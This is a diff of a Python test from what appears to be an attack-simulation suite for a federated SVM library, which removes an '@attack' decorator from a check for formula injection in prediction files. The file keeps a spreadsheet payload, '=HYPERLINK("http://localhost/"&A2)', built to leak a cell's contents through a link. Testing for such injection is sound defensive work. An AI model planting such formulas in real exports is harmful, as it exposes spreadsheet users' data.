@@ -11,7 +11,7 @@ from flower_pansvm.errors import PanSVMError
 from flower_pansvm.models.fourier_svc import FourierSVC
 from flower_pansvm.schema import Schema
 from simulations.attack.active.hospitals import COLUMNS, drawn_table
-from simulations.attack.active.registry import Attempt, attack, refusal
+from simulations.attack.active.registry import Attempt, refusal
 from simulations.attack.active.rounding import fourier_maps
 
 FORMULA = '=HYPERLINK("http://localhost/"&A2)'
@@ -22,10 +22,6 @@ ROWS, SIZE = 20, 60
 """Rows of the table, and features of the model."""
 
 
-@attack(
-    promise="A file of predictions holds nothing that a spreadsheet executes.",
-    tries="Sends a model with a class whose name is a formula.",
-)
 def play(folder: Path) -> Attempt:
     """Predict with the model, and look for the formula among the predictions."""
     folder.mkdir()
